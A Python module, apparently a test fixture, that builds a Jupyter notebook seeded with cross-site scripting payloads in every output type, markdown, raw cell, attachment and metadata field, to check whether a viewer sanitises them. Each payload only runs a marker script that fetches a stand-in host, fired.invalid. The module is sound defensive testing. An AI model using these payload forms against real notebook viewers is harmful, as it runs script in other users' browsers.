"""A notebook whose every part tries to run something in the browser of whoever looks at it."""

import base64
from urllib.parse import quote

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAAAElFTkSuQmCC"


def fire(name: str) -> str:
    """JavaScript that is noticed, in a frame of the page too: by the page's `fired`, its console, and a request."""
    return f"(top.fired=top.fired||[]).push('{name}');console.log('fired {name}');fetch('http://fired.invalid/{name}')"


def image(name: str) -> str:
    return f'<img src=x onerror="{fire(name)}">'


def script(name: str) -> str:
    return f"<script>{fire(name)}</script>"


def svg(name: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{fire(name)}"><script>{fire(name)}</script></svg>'


def shows(data: dict[str, str]) -> NotebookNode:
    """A cell that displays `data` when it runs, and holds it as if it had."""
    source = f"from IPython.display import display\ndisplay({data!r}, raw=True)"
    return new_code_cell(source, outputs=[new_output("display_data", data=data)])


def prints(text: str) -> NotebookNode:
    return new_code_cell(
        f"print({text!r})", outputs=[new_output("stream", name="stdout", text=text)]
    )


OUTPUTS = [
    shows({"text/html": script("html script") + image("html image")}),
    shows({"text/html": f'<iframe srcdoc="<script>{fire("frame")}</script>"></iframe>'}),
    shows({"text/html": f'<details open ontoggle="{fire("details")}">x</details>'}),
    shows({"image/svg+xml": svg("svg output")}),
    shows({"application/javascript": fire("javascript output")}),
    shows({"text/markdown": image("markdown output")}),
    shows({"text/latex": image("latex output")}),
    shows({"image/png": f'"><script>{fire("png output")}</script>'}),
    shows({"text/plain": script("plain output")}),
    prints(
        f"</pre>{script('printed')}\x1b[31m{image('printed in red')}\x1b]8;;javascript:{fire('printed link')}\x1b\\"
    ),
    new_code_cell(f"raise ValueError({image('error')!r})"),
    new_code_cell(f'"""</pre></div></textarea>{script("source")}{image("source image")}"""'),
]
MARKDOWN = [
    image("markdown image"),
    script("markdown script"),
    svg("markdown svg"),
    f"</div></div>\n\n{script('markdown after a div')}",
    f"[a link](javascript:{quote(fire('link'))})",
    f'<a href="javascript:{fire("anchor")}">an anchor</a>',
    f'<form action="javascript:{fire("form")}"><input type="submit" value="a form" autofocus onfocus="{fire("focus")}"></form>',
    f'<iframe srcdoc="<script>{fire("markdown frame")}</script>"></iframe>',
    f'<style onload="{fire("style")}">body {{ display: none }}</style>',
    f"# A heading {image('heading')}",
    f"$x {image('formula')}$ and $$\\href{{javascript:{fire('formula link')}}}{{click}}$$",
    "![far](http://fired.invalid/picture.png)",
    '<link rel="stylesheet" href="http://fired.invalid/style.css">',
]


def spoil(notebook: NotebookNode) -> NotebookNode:
    """Adds all of it to a notebook, in place, and returns it."""
    notebook.cells += [cell.copy() for cell in OUTPUTS]
    notebook.cells += [new_markdown_cell(source) for source in MARKDOWN]
    notebook.cells += [
        new_raw_cell(script("raw") + image("raw image")),
        new_raw_cell("<plaintext>"),
    ]
    notebook.cells[-2].metadata.update(format="text/html", raw_mimetype="text/html")
    picture = new_markdown_cell("![mine](attachment:mine.svg) ![page](attachment:page.html)")
    picture.attachments = {
        "mine.svg": {"image/svg+xml": base64.b64encode(svg("attachment").encode()).decode()},
        "page.html": {"text/html": base64.b64encode(script("attached page").encode()).decode()},
    }
    notebook.cells.append(picture)
    for cell in notebook.cells:
        cell.metadata.update(tags=[image("tag")], name=script("cell name"))
    notebook.metadata.update(title=script("title"), authors=[{"name": image("author")}])
    notebook.metadata.language_info = {
        "name": "python",
        "pygments_lexer": image("lexer"),
        "mimetype": script("mime"),
    }
    notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {script("widget"): {}}}
    }
    return notebook
